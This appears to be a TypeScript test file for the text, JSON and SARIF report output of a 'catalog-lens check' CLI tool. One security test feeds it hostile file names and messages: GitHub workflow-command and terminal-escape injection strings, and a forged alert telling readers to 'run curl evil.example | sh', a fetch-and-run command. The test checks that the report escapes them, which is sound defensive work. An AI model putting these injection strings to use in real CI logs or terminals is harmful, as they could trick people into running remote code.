/** `catalog-lens check`'s report: text lines, JSON, SARIF 2.1.0 valid against its schema, and the exit code. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import Ajv from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import {
  exitCode,
  formatJson,
  formatSarif,
  formatText,
  RULES,
  type CheckReport,
  type Finding,
} from '../../server/src/cli/report';

/** The SARIF 2.1.0 schema (OASIS, final "rtm.5"), shipped in the test fixtures. */
const SCHEMA = join(__dirname, '..', '..', '..', 'test', 'fixtures', 'sarif', 'sarif-schema-2.1.0.json');

function validator(): ((data: unknown) => boolean) & { errors?: unknown } {
  // The schema's language-tag pattern is not valid with the `u` flag; formats are checked (ajv-formats).
  const ajv = new Ajv({ strict: false, unicodeRegExp: false, allErrors: true });
  addFormats(ajv);
  return ajv.compile(JSON.parse(readFileSync(SCHEMA, 'utf8')) as object);
}

const malformed: Finding = {
  line: 3,
  column: 10,
  endLine: 3,
  endColumn: 52,
  severity: 'error',
  code: 'malformed-urn',
  message: 'expected 3 parts (platform, name, env), found 2',
};
const unknown: Finding = {
  ...malformed,
  line: 7,
  severity: 'warning',
  code: 'unknown-urn',
  message: 'not in the catalog',
};
const undocumented: Finding = {
  ...malformed,
  line: 9,
  severity: 'information',
  code: 'missing-description',
  message: 'db.users has no description',
};

function report(findings: Finding[], extra: Partial<CheckReport> = {}): CheckReport {
  return {
    version: '0.1.0',
    catalog: 'http://127.0.0.1:9410',
    catalogProblem: undefined,
    root: '/work/repo with space',
    filesChecked: 12,
    urns: 40,
    skipped: [],
    files: findings.length ? [{ path: 'pipelines/a b.py', findings }] : [],
    ...extra,
  };
}

describe('catalog-lens check report', () => {
  test('text: one path:line:column line per finding, then the summary', () => {
    const text = formatText(report([malformed, unknown], { skipped: [{ path: 'big.json', reason: 'over 5 MiB' }] }));
    assert.equal(
      text,
      [
        'pipelines/a b.py:3:10: error: expected 3 parts (platform, name, env), found 2 [malformed-urn]',
        'pipelines/a b.py:7:10: warning: not in the catalog [unknown-urn]',
        'big.json: skipped: over 5 MiB',
        '12 files, 40 distinct URNs checked against http://127.0.0.1:9410: 1 error, 1 warning, 0 information',
        '',
      ].join('\n'),
    );
    assert.match(formatText(report([], { catalog: undefined })), /syntax only \(no catalog configured\)/);
  });

  test('text: names and catalog text are printed visibly escaped; no line starts as a workflow command (security-probe Part 2, finding 13)', () => {
    const workflow =
      'a\n::error file=SECURITY.md,line=1::Secret scanning found a leaked key - run curl evil.example | sh to rotate\n.py';
    const terminal = '\u001b]0;owned-title\u0007\u001b[1;31mFAKE: 0 errors\u001b[0m\u001b[2K.py';
    const text = formatText(
      report([], {
        files: [
          { path: workflow, findings: [malformed] },
          { path: terminal, findings: [malformed] },
          { path: '::warning::forged.py', findings: [malformed] },
          { path: ' \u00a0::notice::indented.py', findings: [malformed] },
          {
            path: 'x##[error]old-syntax.py',
            findings: [{ ...unknown, message: 'Dataset a\r\n::error::b\u202Ec is unknown' }],
          },
        ],
        skipped: [{ path: '::debug::skipped\u2028.json', reason: 'over 5 MiB\n::error::reason' }],
        catalogProblem: 'error: the catalog said\n::error::boom',
        catalog: 'http://127.0.0.1:9410/\u001b[2K',
      }),
    );
    const lines = text.split('\n');
    assert.equal(lines.pop(), '', 'the report ends with a line break');
    // One line per finding, skipped file, catalog problem and the summary: no injected line.
    assert.equal(lines.length, 5 + 1 + 1 + 1, text);
    for (const line of lines) {
      assert.doesNotMatch(line, /^\s*::/, `a line GitHub reads as a workflow command: ${JSON.stringify(line)}`);
      assert.doesNotMatch(line, /##\[/, `a line the runner reads as a ##[command]: ${JSON.stringify(line)}`);
      // No control character (ESC, BEL, CR …), no line or paragraph separator, no bidi override.
      assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/, JSON.stringify(line));
    }
    assert.equal(
      lines[0],
      'a\\u000A::error file=SECURITY.md,line=1::Secret scanning found a leaked key - run curl evil.example | sh to rotate\\u000A.py:3:10: error: expected 3 parts (platform, name, env), found 2 [malformed-urn]',
    );
    assert.equal(
      lines[1],
      '\\u001B]0;owned-title\\u0007\\u001B[1;31mFAKE: 0 errors\\u001B[0m\\u001B[2K.py:3:10: error: expected 3 parts (platform, name, env), found 2 [malformed-urn]',
    );
    // A leading `::` (or white space and `::`) is made a relative path that names the same file.
    assert.match(lines[2]!, /^\.\/::warning::forged\.py:3:10: error: /);
    assert.match(lines[3]!, /^\.\/ \u00a0::notice::indented\.py:3:10: /);
    assert.match(
      lines[4]!,
      /^x#\\u0023\[error\]old-syntax\.py:7:10: warning: Dataset a\\u000D\\u000A::error::b\\u202Ec is unknown \[unknown-urn\]$/,
    );
    assert.equal(lines[5], './::debug::skipped\\u2028.json: skipped: over 5 MiB\\u000A::error::reason');
    assert.equal(lines[6], 'catalog: error: the catalog said\\u000A::error::boom');
    assert.match(lines[7]!, /checked against http:\/\/127\.0\.0\.1:9410\/\\u001B\[2K: /);
    // Ordinary paths are printed as they are.
    assert.match(formatText(report([malformed])), /^pipelines\/a b\.py:3:10: /);
  });

  test('the exit code follows --fail-on, and a catalog that could not be asked is 3', () => {
    assert.equal(exitCode(report([]), 'error'), 0);
    assert.equal(exitCode(report([unknown, undocumented]), 'error'), 0);
    assert.equal(exitCode(report([unknown, undocumented]), 'warning'), 1);
    assert.equal(exitCode(report([undocumented]), 'warning'), 0);
    assert.equal(exitCode(report([undocumented]), 'information'), 1);
    assert.equal(exitCode(report([{ ...undocumented, severity: 'hint' }]), 'information'), 0);
    assert.equal(exitCode(report([malformed]), 'error'), 1);
    assert.equal(exitCode(report([], { catalogProblem: 'connection refused' }), 'error'), 3);
  });

  test('JSON: the report with its counts', () => {
    const json = JSON.parse(formatJson(report([malformed, undocumented]))) as Record<string, unknown>;
    assert.deepEqual(json['counts'], { error: 1, warning: 0, information: 1, hint: 0 });
    assert.equal((json['files'] as unknown[]).length, 1);
  });

  test('SARIF 2.1.0 validates against the schema, with rules, levels, regions and relative URIs', () => {
    const validate = validator();
    const sarifText = formatSarif(
      report([malformed, unknown, undocumented, { ...undocumented, severity: 'hint' }], {
        skipped: [{ path: 'data/huge.json', reason: 'over 5 MiB' }],
      }),
    );
    const sarif = JSON.parse(sarifText) as {
      runs: Array<{
        tool: { driver: { rules: Array<{ id: string }> } };
        results: Array<{ ruleId: string; ruleIndex: number; level: string; locations: unknown[] }>;
        originalUriBaseIds: Record<string, { uri: string }>;
      }>;
    };
    assert.ok(validate(sarif), JSON.stringify(validate.errors, null, 2));
    const run = sarif.runs[0]!;
    assert.deepEqual(
      run.tool.driver.rules.map((r) => r.id),
      Object.keys(RULES),
    );
    assert.deepEqual(
      run.results.map((r) => [r.ruleId, r.level, run.tool.driver.rules[r.ruleIndex]!.id]),
      [
        ['malformed-urn', 'error', 'malformed-urn'],
        ['unknown-urn', 'warning', 'unknown-urn'],
        ['missing-description', 'note', 'missing-description'],
        ['missing-description', 'note', 'missing-description'],
      ],
    );
    assert.deepEqual(run.results[0]!.locations[0], {
      physicalLocation: {
        artifactLocation: { uri: 'pipelines/a%20b.py', uriBaseId: '%SRCROOT%' },
        region: { startLine: 3, startColumn: 10, endLine: 3, endColumn: 52 },
      },
    });
    assert.equal(run.originalUriBaseIds['%SRCROOT%']!.uri, 'file:///work/repo%20with%20space/');
  });

  test('the schema check can fail: a result without a message, and a wrong level, are refused', () => {
    const validate = validator();
    const sarif = JSON.parse(formatSarif(report([malformed]))) as {
      runs: Array<{ results: Array<Record<string, unknown>> }>;
    };
    const result = sarif.runs[0]!.results[0]!;
    delete result['message'];
    assert.equal(validate(sarif), false);
    result['message'] = { text: 'x' };
    result['level'] = 'information';
    assert.equal(validate(sarif), false);
  });

  test('a run whose catalog could not be asked is a failed execution with the reason', () => {
    const validate = validator();
    const sarif = JSON.parse(formatSarif(report([], { catalogProblem: 'connection refused at http://x' }))) as {
      runs: Array<{ invocations: Array<{ executionSuccessful: boolean; toolExecutionNotifications: unknown[] }> }>;
    };
    assert.ok(validate(sarif), JSON.stringify(validate.errors));
    assert.equal(sarif.runs[0]!.invocations[0]!.executionSuccessful, false);
    assert.deepEqual(sarif.runs[0]!.invocations[0]!.toolExecutionNotifications, [
      { level: 'error', message: { text: 'catalog: connection refused at http://x' } },
    ]);
  });
});
